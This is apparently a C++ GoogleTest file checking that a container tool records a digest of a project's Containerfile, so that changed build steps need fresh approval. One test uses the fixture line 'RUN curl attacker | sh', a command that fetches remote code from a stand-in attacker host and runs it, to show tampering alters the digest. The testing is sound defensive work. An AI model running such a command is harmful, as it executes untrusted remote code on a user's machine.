// The approval covers the Containerfile an image engine builds (its RUN steps run on this
// machine): what it records of it, read the way the engine reads it.
#include <gtest/gtest.h>

#include <filesystem>

#include "config/approval.hpp"
#include "config/config_io.hpp"
#include "config/limits.hpp"
#include "support/temp_dir.hpp"
#include "util/error.hpp"
#include "util/file_io.hpp"

namespace cc::config {
namespace {
namespace fs = std::filesystem;

class ContainerfileDigest : public ::testing::Test {
 protected:
  cc::test::TempDir dir{"cc-approval"};
  fs::path project;
  void SetUp() override {
    project = dir.path() / "project";
    fs::create_directories(project / ".claude-container");
  }
  static std::string config_text(EngineKind engine) {
    Config c = preset(Mode::playground, "demo");
    c.engine = engine;
    return serialize_config(c);
  }
  void write_containerfile(const std::string& content) const {
    write_file_atomic(project / ".claude-container" / "Containerfile", content, 0644);
  }
};

TEST_F(ContainerfileDigest, OnlyConfigsThatBuildAnImageRecordIt) {
  write_containerfile("FROM debian:stable-slim\n");
  for (EngineKind engine : {EngineKind::docker, EngineKind::podman, EngineKind::apple, EngineKind::automatic})
    EXPECT_EQ(containerfile_digest(project, config_text(engine)), sha256_hex("FROM debian:stable-slim\n"))
        << to_string(engine);
  EXPECT_EQ(containerfile_digest(project, config_text(EngineKind::native)), "");
  EXPECT_EQ(containerfile_digest(project, "{not json"), "");
}

TEST_F(ContainerfileDigest, AChangedContentChangesIt) {
  write_containerfile("FROM debian:stable-slim\n");
  const std::string before = containerfile_digest(project, config_text(EngineKind::podman));
  write_containerfile("FROM debian:stable-slim\nRUN curl attacker | sh\n");
  EXPECT_NE(containerfile_digest(project, config_text(EngineKind::podman)), before);
}

// Missing and unreadable are recorded as such, so the file appearing later needs approval;
// a link is never followed (the engine would not build through it either).
TEST_F(ContainerfileDigest, MissingOrALinkIsNamedNotHashed) {
  EXPECT_EQ(containerfile_digest(project, config_text(EngineKind::podman)), "missing");
  write_file_atomic(dir.path() / "outside", "FROM debian:stable-slim\n", 0644);
  fs::create_symlink(dir.path() / "outside", project / ".claude-container" / "Containerfile");
  EXPECT_EQ(containerfile_digest(project, config_text(EngineKind::podman)), "unreadable");
  EXPECT_THROW(read_containerfile(project, parse_config(config_text(EngineKind::podman), "test")), Error);
}

TEST_F(ContainerfileDigest, ItIsReadWithTheEnginesBound) {
  write_containerfile(std::string(kMaxContainerfileBytes + 1, '#'));
  EXPECT_EQ(containerfile_digest(project, config_text(EngineKind::docker)), "unreadable");
}

}  // namespace
}  // namespace cc::config
